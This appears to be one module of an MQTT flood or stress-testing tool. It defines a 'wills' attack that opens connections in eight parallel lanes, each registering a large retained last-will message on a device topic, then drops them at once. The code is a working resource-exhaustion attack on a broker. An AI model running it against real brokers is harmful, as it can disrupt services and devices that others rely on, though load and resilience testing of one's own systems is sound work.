import { type Attack, ending, inLanes, openMqtt } from '../flood.ts'

const LANES = 8

export const wills: Attack = {
  about: 'connects with a will and vanishes, eight at a time',
  start(target) {
    const topic = `dev/${target.id}/gone`
    const will = { topic, payload: Buffer.alloc(8_000, 'x'), qos: 1, retain: true } as const
    inLanes(LANES, async (lane) => {
      const socket = await openMqtt(target, { clientId: `will-${lane}`, will })
      socket.destroy()
      await ending(socket)
    })
  },
}
